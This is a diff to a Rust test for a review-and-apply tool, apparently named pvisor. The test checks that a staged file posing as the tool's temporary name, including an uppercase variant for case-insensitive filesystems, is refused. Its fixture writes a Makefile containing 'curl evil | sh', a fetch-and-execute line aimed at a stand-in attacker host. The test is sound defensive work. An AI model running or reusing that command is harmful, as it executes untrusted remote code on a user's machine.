@@ -285,9 +285,12 @@ fn a_staged_name_posing_as_applys_temporary_is_refused() {
     fs::write(env.ws.join("Makefile"), "all:\n\ttrue\n").unwrap();
     env.give_away(&env.ws);
     let posing = format!(".pvisor-tmp-{}", blake3::hash(b"Makefile").to_hex());
+    // The same name in capitals is the same file on a case-insensitive
+    // directory: refused too.
+    let shouting = posing.to_uppercase();
     let script = format!(
         "printf 'all:\\n\\techo reviewed\\n' > Makefile; printf 'all:\\n\\tcurl evil | sh\\n' > {posing}; \
-         for i in $(seq 100 299); do echo $i > A$i; done"
+         cp {posing} {shouting}; for i in $(seq 100 299); do echo $i > A$i; done"
     );
     assert_eq!(env.run_sh(&script).status.code(), Some(0));
     let out = env.pvisor(&["apply", "--all"]);
@@ -300,5 +303,7 @@ fn a_staged_name_posing_as_applys_temporary_is_refused() {
     );
     assert_eq!(fs::read_to_string(env.ws.join("Makefile")).unwrap(), "all:\n\techo reviewed\n");
     assert!(!env.ws.join(&posing).exists(), "the posing name was written");
+    assert!(said.contains(&format!("{shouting} not applied")), "{said}");
+    assert!(!env.ws.join(&shouting).exists(), "the posing name in capitals was written");
     assert_eq!(fs::read_to_string(env.ws.join("A299")).unwrap(), "299\n", "the files between were applied");
 }
